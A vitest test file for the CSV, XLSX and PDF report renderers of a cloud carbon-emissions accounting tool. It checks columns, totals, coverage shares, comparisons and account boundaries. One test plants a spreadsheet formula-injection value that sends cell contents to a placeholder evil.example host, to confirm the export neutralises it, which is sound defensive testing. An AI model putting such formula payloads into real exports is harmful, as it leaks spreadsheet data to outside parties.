import ExcelJS from "exceljs";
import { describe, expect, it } from "vitest";
import { parseEnv } from "@canopy/config";
import { scope3Category1LocationKg } from "../model/measures";
import { fixtureModel } from "../testing/fixture";
import { parseCsv, pdfText, popplerAvailable, rasterizePages } from "../testing/pdf-tools";
import { hourlyCoverageLabels } from "@canopy/methodology";
import { formatNumber } from "./format";
import { renderReport } from "./index";
import { tidyColumns } from "./tidy";

const hasPoppler = await popplerAvailable();
if (!hasPoppler && parseEnv().CI)
  throw new Error("CI requires poppler-utils (pdftotext, pdftoppm)");

describe("renderers", () => {
  const model = fixtureModel({ status: "final" });
  const totals = model.content.totals;

  it("CSV: a tag value that a spreadsheet would run as a formula is written as text", async () => {
    const hostile = fixtureModel({ status: "final" });
    const tags = hostile.content.breakdowns.find((b) => b.dimension.startsWith("tag:"))!;
    tags.rows[0]!.label = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
    const csv = (await renderReport(hostile, "csv")).body.toString("utf8");
    const cells = parseCsv(csv).flat();
    expect(cells).toContain(`'=HYPERLINK("http://evil.example/?x="&A1,"click")`);
    expect(cells.filter((cell) => /^[=+@]/.test(cell))).toEqual([]);
  });

  it("CSV: one tidy table with the documented columns, numbers as plain decimals", async () => {
    const csv = (await renderReport(model, "csv")).body.toString("utf8");
    const [header, ...rows] = parseCsv(csv);
    expect(header).toEqual(tidyColumns.map((c) => c.name));
    expect(rows.every((row) => row.length === header!.length)).toBe(true);
    const column = (name: string) => header!.indexOf(name);
    const total = rows.find((row) => row[column("dimension")] === "total")!;
    expect(Number(total[column("co2e_location_kg")])).toBeCloseTo(totals.co2eLocationKg, 6);
    expect(Number(total[column("scope3_cat1_location_kg")])).toBeCloseTo(
      scope3Category1LocationKg(totals),
      6,
    );
    expect(total[column("label")]).toBe("All cloud emissions, March 2026");
    expect(total[column("period_last_day")]).toBe("2026-03-31");
    expect(total[column("content_sha256")]).toBe(model.header.contentSha256);
    const dimensions = new Set(rows.map((row) => row[column("dimension")]));
    expect([...dimensions]).toEqual([
      "total",
      "provider",
      "account",
      "service",
      "region",
      "tag:team",
      "tag:cost-centre",
      "cost_coverage",
      "cost_line",
      "hourly_coverage",
      "month",
      "comparison",
    ]);
    // Hourly coverage: the total row and one row per month, provider and region, from the content.
    const hourly = model.content.dataQuality.hourlyCoverage!;
    expect(hourly.shareHourlyGrid).toBeGreaterThan(0);
    expect(hourly.shareDisaggregated).toBeGreaterThan(0);
    expect(Number(total[column("share_hourly_grid")])).toBeCloseTo(hourly.shareHourlyGrid!, 6);
    expect(Number(total[column("share_disaggregated")])).toBeCloseTo(hourly.shareDisaggregated!, 6);
    const coverageRows = rows.filter((row) => row[column("dimension")] === "hourly_coverage");
    expect(coverageRows.map((row) => row[column("key")])).toEqual(
      hourly.rows.map((r) => `${r.month.slice(0, 7)}:${r.provider}:${r.region}`),
    );
    for (const [i, r] of hourly.rows.entries()) {
      expect(Number(coverageRows[i]![column("kwh_facility")])).toBeCloseTo(r.kwhFacility, 6);
      expect(Number(coverageRows[i]![column("share_hourly_grid")])).toBeCloseTo(
        r.shareHourlyGrid!,
        6,
      );
    }
    // The range of the headline total, next to it.
    const central = Number(total[column("scope3_cat1_location_kg")]);
    expect(Number(total[column("co2e_low_kg")])).toBeLessThan(central);
    expect(Number(total[column("co2e_high_kg")])).toBeGreaterThan(central);
    expect(Number(total[column("co2e_low_kg")])).toBeCloseTo(model.content.totals.co2eLowKg, 6);
    // Cost coverage: covered (spend_amount) + out of scope + not modelled = total, on the total row
    // and per service.
    const cost = model.content.costCoverage!;
    expect(Number(total[column("spend_amount")])).toBeCloseTo(cost.covered[0]!.amount, 6);
    expect(Number(total[column("cost_not_modelled_amount")])).toBeCloseTo(30, 6);
    expect(Number(total[column("cost_out_of_scope_amount")])).toBeCloseTo(120, 6);
    expect(Number(total[column("cost_total_amount")])).toBeCloseTo(
      cost.covered[0]!.amount + 30 + 120,
      6,
    );
    const support = rows.find(
      (row) => row[column("dimension")] === "cost_coverage" && row[column("key")] === "gcp:Support",
    )!;
    expect(Number(support[column("spend_amount")])).toBe(0);
    expect(Number(support[column("cost_not_modelled_amount")])).toBe(0);
    expect(Number(support[column("cost_out_of_scope_amount")])).toBeCloseTo(120, 6);
    expect(
      rows.filter((row) => row[column("dimension")] === "cost_line").map((r) => r[column("key")]),
    ).toEqual(["tax", "credits"]);
    // An account name with a comma stays one field.
    expect(rows.some((row) => row[column("label")] === "GCP, ML project (ml-project)")).toBe(true);
  });

  it("XLSX: summary, data, breakdown, quality, lineage and methodology sheets with numbers as numbers", async () => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await renderReport(model, "xlsx")).body as unknown as ArrayBuffer);
    expect(workbook.worksheets.map((s) => s.name)).toEqual([
      "Summary",
      "Data",
      "By provider",
      "By account",
      "By service",
      "By region",
      "By tag team",
      "By tag cost-centre",
      "Monthly trend",
      "Cost coverage",
      "Data quality",
      "Lineage",
      "Methodology",
    ]);
    const provider = workbook.getWorksheet("By provider")!;
    expect(provider.getRow(1).getCell(2).value).toBe(
      "Scope 3 Cat. 1, location-based (lifecycle grid factors) (kg CO2e)",
    );
    const sum = [2, 3].reduce((n, r) => n + (provider.getRow(r).getCell(2).value as number), 0);
    expect(sum).toBeCloseTo(scope3Category1LocationKg(totals), 6);
    // Hourly coverage on the data quality sheet: the share beside its label, one row per group.
    const quality: unknown[][] = [];
    workbook.getWorksheet("Data quality")!.eachRow((row) => {
      quality.push((row.values as unknown[]).slice(1));
    });
    const hourly = model.content.dataQuality.hourlyCoverage!;
    const shareRow = quality.find((r) => r[0] === hourlyCoverageLabels.shareHourlyGrid);
    expect(shareRow?.[1]).toBeCloseTo(hourly.shareHourlyGrid!, 6);
    for (const r of hourly.rows)
      expect(
        quality.find((q) => q[0] === `${r.month.slice(0, 7)} ${r.provider} ${r.region}`)?.[2],
      ).toBeCloseTo(r.shareHourlyGrid!, 6);
    let methodologyRows = 0;
    workbook.getWorksheet("Methodology")!.eachRow(() => methodologyRows++);
    expect(methodologyRows).toBeGreaterThan(200);
  });

  it.skipIf(!hasPoppler)(
    "PDF: prints the totals, organization, report id, hash and page numbers",
    async () => {
      const text = await pdfText((await renderReport(model, "pdf")).body);
      for (const value of [
        totals.co2eLocationKg,
        totals.co2eMarketKg,
        totals.co2eEmbodiedKg,
        totals.kwhFacility,
        totals.waterL,
      ]) {
        expect(text).toContain(formatNumber(value, 1));
      }
      expect(text).toContain("Fixture GmbH");
      expect(text).toContain(model.header.reportId);
      expect(text).toContain(model.header.contentSha256);
      expect(text).toContain("FINAL · VERSION 1");
      expect(text).toContain("Appendix: methodology");
      const share = model.content.dataQuality.hourlyCoverage!.shareHourlyGrid!;
      expect(text).toMatch(
        new RegExp(`${hourlyCoverageLabels.shareHourlyGrid}: ${(share * 100).toFixed(1)}\\s?%`),
      );
      const pages = Number(/Page 1 of (\d+)/.exec(text)?.[1]);
      expect(pages).toBeGreaterThan(5);
      expect(text).toContain(`Page ${pages} of ${pages}`);
    },
  );

  it.skipIf(!hasPoppler)("PDF: no page is blank", async () => {
    const pages = await rasterizePages((await renderReport(fixtureModel(), "pdf")).body);
    expect(pages.length).toBeGreaterThan(5);
    for (const page of pages) {
      expect(page.inkShare, `page ${page.page}`).toBeGreaterThan(0.01);
      expect(page.distinctLevels, `page ${page.page}`).toBeGreaterThan(8);
    }
  });

  it("every format says 'not comparable' (with the reason) instead of a change over unlike spans", async () => {
    const thin = fixtureModel({ status: "final" });
    const ytd = thin.content.comparisons.find((c) => c.key === "year_to_date")!;
    const pytd = thin.content.comparisons.find((c) => c.key === "previous_year_to_date")!;
    Object.assign(ytd, { daysWithData: 334, daysInPeriod: 334 });
    Object.assign(pytd, { daysWithData: 29, daysInPeriod: 334 });

    const [header, ...rows] = parseCsv((await renderReport(thin, "csv")).body.toString("utf8"));
    const column = (name: string) => header!.indexOf(name);
    const line = rows.find(
      (r) =>
        r[column("dimension")] === "comparison" && r[column("key")] === "previous_year_to_date",
    )!;
    expect(line[column("change_ratio")]).toBe("");
    expect(line[column("comparison_note")]).toMatch(/^not comparable: .*29 of 334 days/);
    const previous = rows.find(
      (r) => r[column("dimension")] === "comparison" && r[column("key")] === "previous_period",
    )!;
    expect(Number.isFinite(Number.parseFloat(previous[column("change_ratio")]!))).toBe(true);

    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await renderReport(thin, "xlsx")).body as unknown as ArrayBuffer);
    const summary: unknown[][] = [];
    workbook.getWorksheet("Summary")!.eachRow((row) => {
      summary.push((row.values as unknown[]).slice(1));
    });
    const xlsxLine = summary.find((r) => String(r[0]).startsWith("Previous year to date"))!;
    expect(xlsxLine[2]).toBe("not comparable");
    expect(String(xlsxLine[4])).toContain("29 of 334 days");

    if (hasPoppler) {
      const text = (await pdfText((await renderReport(thin, "pdf")).body)).replace(/\s+/g, " ");
      expect(text).toContain("not comparable");
      expect(text).toContain("29 of 334 days with data");
    }
  });

  it("states the boundary as the accounts with data, in the XLSX and the PDF", async () => {
    const wide = fixtureModel({ status: "final" });
    wide.content.boundary.accounts.push({
      id: "66666666-6666-4666-8666-666666666666",
      provider: "aws",
      displayName: "Sandbox without usage",
      providerAccountId: "999999999999",
    });
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await renderReport(wide, "xlsx")).body as unknown as ArrayBuffer);
    const cells: string[] = [];
    for (const sheet of ["Summary", "Lineage"])
      workbook.getWorksheet(sheet)!.eachRow((row) => {
        cells.push(...(row.values as unknown[]).slice(1).map(String));
      });
    expect(cells.join("\n")).toContain(
      "2 accounts of the organization's 3 cloud accounts have data in March 2026 (1 has none)",
    );
    expect(cells).not.toContain("Sandbox without usage");
    if (hasPoppler) {
      const text = (await pdfText((await renderReport(wide, "pdf")).body)).replace(/\s+/g, " ");
      expect(text).toContain("2 accounts of the organization's 3 cloud accounts have data");
      expect(text).not.toContain("Sandbox without usage");
    }
  });
});
